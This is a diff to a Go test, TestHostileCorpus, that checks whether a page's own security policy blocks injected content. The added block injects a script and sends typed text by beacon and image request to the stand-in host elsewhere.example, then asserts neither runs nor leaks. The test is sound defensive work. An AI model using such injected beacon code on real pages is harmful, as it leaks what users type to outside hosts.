@@ -109,6 +109,21 @@ func TestHostileCorpus(t *testing.T) {
 		t.Errorf("elements of the corpus are in the page: %s, before %s", after, before)
 	}
 	h.silent("a session with a hostile corpus")
+
+	// Were an attack to get into the page one day, the page's own policy would still hold.
+	ask[bool](u, `(() => {
+		const script = document.createElement("script");
+		script.textContent = "window.attacked = 2";
+		const image = new Image();
+		image.src = "http://elsewhere.example/image";
+		document.body.append(script, image);
+		navigator.sendBeacon("http://elsewhere.example/beacon", "what was typed");
+		return new Promise(done => setTimeout(() => done(true), 500));
+	})()`)
+	if ask[bool](u, "'attacked' in window") {
+		t.Error("a script that stood in the page ran")
+	}
+	h.silent("a session with an attack in the page")
 	if len(datagrams) > 0 {
 		t.Errorf("%d datagrams were sent", len(datagrams))
 	}
